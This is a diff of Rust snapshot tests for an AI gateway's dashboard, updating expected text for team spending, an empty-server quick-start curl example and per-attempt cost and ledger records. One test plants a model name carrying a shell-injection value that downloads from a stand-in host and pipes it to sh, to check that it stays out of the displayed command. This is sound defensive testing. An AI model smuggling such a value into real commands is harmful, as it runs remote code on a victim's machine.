@@ -54,14 +54,14 @@ fn a_calm_morning_says_so_and_shows_money_by_the_column() {
     assert!(shown.contains("Nothing needs attention."), "{shown}");
     let from = shown.find("Spend by team").unwrap_or(0);
     let to = shown.find("Spend by model").unwrap_or(shown.len());
-    expect!["Spend by team 2026-11-01 to 2026-11-23 search $312.48 48,210 attempts · 91,204,417 tokens · 12 estimated support $96.02 12,904 attempts · 20,117,600 tokens batch-labelling $1.27 3,310 attempts · 4,009,121 tokens default $0.00 41 attempts · 3,020 tokens Total $409.77"].assert_eq(shown[from..to].trim());
+    expect!["Spend by team 2026-11-01 to 2026-11-23 search $312.48 48,210 attempts · 91,204,417 tokens · 12 estimated support $96.02 12,904 attempts · 20,117,600 tokens batch-labelling $1.27 3,310 attempts · 4,009,121 tokens default &lt;$0.01 41 attempts · 3,020 tokens Total $409.77"].assert_eq(shown[from..to].trim());
 }
 
 #[test]
 fn an_empty_server_shows_what_to_do_first() {
     let shown = text(&page(&fixture::empty()));
     assert!(shown.contains("curl -N"), "{shown}");
-    assert!(shown.contains("&quot;bedplate-guide&quot;"), "the model that is ready: {shown}");
+    assert!(shown.contains("\"bedplate-guide\""), "the model that is ready: {shown}");
     assert!(shown.contains("No budget limits anybody."));
     assert!(shown.contains("Nothing was spent in this period."));
 }
@@ -72,7 +72,7 @@ fn a_name_that_a_shell_would_read_is_not_put_into_a_command() {
     view.models[0].name = "x'; curl evil | sh; '".into();
     let shown = text(&page(&view));
     let command = &shown[shown.find("curl -N").unwrap_or(0)..];
-    assert!(command.contains("&quot;model&quot;: &quot;MODEL&quot;"), "{command}");
+    assert!(command.contains("\"model\": \"MODEL\""), "{command}");
 }
 
 #[test]
@@ -83,9 +83,9 @@ fn a_record_shows_its_journey_its_lines_and_a_sum_of_zero() {
         let end = shown[start..].find(to).map_or(shown.len(), |n| start + n);
         shown[start..end].trim().to_owned()
     };
-    expect!["Attempt 1 openai/gpt-4.1-mini for chat failed took 812.4 ms · status 503 · UP0001 · no known price: the cost is in suspense provider openai failed with status 503: overloaded Tokens: none"].assert_eq(&part("Attempt 1", "Attempt 2"));
-    expect!["Attempt 2 anthropic/claude-haiku-4-5 for chat ok took 1.91 s · first byte after 402.0 ms · then 164 tokens/s · status 200 · price in force since 2025-10-15T00:00:00.000Z, from catalogue 2026-11-20 · upstream id msg_01X Line Quantity USD each USD input 1,204 0.000001 0.001204 cache_read 8,000 0.0000001 0.0008 00 output 248 0.000005 0.00124 0 total 0.003244"].assert_eq(&part("Attempt 2", "Not tried"));
-    expect!["Ledger Account Attempt USD expense:search/chat-fast 019ab1c2-0001-7a00-8000-0000000000a2 0.003244 payable:anthropic 019ab1c2-0001-7a00-8000-0000000000a2 -0.003244 sum: the books balance 0 .000000"].assert_eq(&part("Ledger", "The same"));
+    expect!["Attempt 1 openai/gpt-4.1-mini for chat failed took 812.4 ms · status 503 · UP0001 · nothing was charged provider openai failed with status 503: overloaded"].assert_eq(&part("Attempt 1", "Attempt 2"));
+    expect!["Attempt 2 anthropic/claude-haiku-4-5 for chat ok took 1.91 s · first byte after 402.0 ms · then 164 tokens/s · status 200 · price in force since 2025-10-15T00:00:00.000Z, from catalogue 2026-11-20 · upstream id msg_01X Priced lines Line Quantity USD each USD input 1,204 0.000001 0 0.001204 cache_read 8,000 0.0000001 0.0008 00 output 248 0.000005 0 0.00124 0 total 0.003244"].assert_eq(&part("Attempt 2", "Not tried"));
+    expect!["Ledger Postings; debits are positive Account Attempt USD expense:search/chat-fast 019ab1c2-0001-7a00-8000-0000000000a2 0.003244 payable:anthropic 019ab1c2-0001-7a00-8000-0000000000a2 -0.003244 sum: the books balance 0 .000000"].assert_eq(&part("Ledger", "The same"));
 }
 
 #[test]
